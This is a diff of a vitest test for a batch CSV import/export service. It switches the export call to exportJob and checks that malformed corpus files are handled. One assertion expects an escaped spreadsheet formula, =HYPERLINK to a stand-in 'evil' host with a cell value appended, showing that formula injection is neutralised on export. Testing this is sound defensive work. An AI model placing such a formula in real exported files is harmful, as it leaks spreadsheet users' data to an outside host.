@@ -3,9 +3,8 @@ import { join } from 'node:path'
 import iconv from 'iconv-lite'
 import { describe, expect, it } from 'vitest'
 import { coreWithPrivateKeychain } from '../helpers/core-harness'
-import { exportCsv } from '../../src-main/batch/export'
 import { BatchJournal, type JobRow } from '../../src-main/batch/journal'
-import { prepareJob } from '../../src-main/batch/service'
+import { exportJob, prepareJob } from '../../src-main/batch/service'
 
 /* A malformed corpus (issue #8): every file gets a clear report, none crashes, no row is dropped. */
 const h = coreWithPrivateKeychain({ host: 'cli' })
@@ -71,7 +70,7 @@ describe('batch import: malformed corpus', () => {
     corpus[name]?.expect(job, rows)
     if (job.status === 'failed') return
     const out = join(h.dataDir, `${name}.out.csv`)
-    expect(await exportCsv(journal, job, h.core.context.settings.get().verdictRules, out, ';')).toBe(job.totalRows)
+    expect((await exportJob(h.core.context, job, out, { policy: h.core.context.settings.get().policy, columns: 'codes', delimiter: ';' })).rows).toBe(job.totalRows)
     const text = readFileSync(out, 'utf8')
     if (name === 'formulas.csv') {
       expect(text).toContain(`"'=HYPERLINK(""http://evil/?""&A1)"`)
